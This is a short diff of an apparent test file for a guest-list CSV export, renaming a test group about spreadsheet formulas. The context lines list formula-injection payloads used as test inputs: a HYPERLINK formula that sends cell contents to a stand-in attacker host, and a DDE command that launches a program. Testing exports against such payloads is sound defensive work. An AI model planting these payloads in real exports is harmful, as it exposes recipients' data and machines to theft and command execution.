@@ -171,7 +171,7 @@ describe("GET /events/{eventId}/guests/export.csv", () => {
   });
 });
 
-describe("a formula in an export", () => {
+describe("exportGuests (formulas)", () => {
   const FORMULAS = [
     '=HYPERLINK("https://evil.example/?"&A1,"Click")',
     "=cmd|' /C calc'!A0",
